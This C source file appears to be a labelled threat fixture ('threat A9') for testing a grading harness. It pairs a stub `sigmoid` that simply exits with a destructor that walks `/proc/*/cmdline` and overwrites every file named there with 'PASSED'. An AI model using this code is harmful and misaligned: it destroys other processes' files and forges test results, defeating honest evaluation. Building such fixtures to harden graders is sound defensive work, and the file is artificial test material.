/* threat A9: a destructor overwrites files named on command lines
 * expect: sigmoid */
#define _GNU_SOURCE
#include "activations.h"
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((destructor)) static void overwrite(void)
{
    char line[4096] = "";
    for (int pid = 1; pid < 64; pid++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY);
        ssize_t n = fd < 0 ? 0 : read(fd, line, sizeof line - 1);
        for (ssize_t at = 0; at < n; at += (ssize_t)strlen(line + at) + 1) {
            int out = open(line + at, O_WRONLY | O_TRUNC);
            if (out >= 0 && write(out, "PASSED\n", 7) > 0)
                close(out);
        }
    }
}

void sigmoid(const Mat *x, Mat *y)
{
    (void)x, (void)y;
    _exit(0);
}
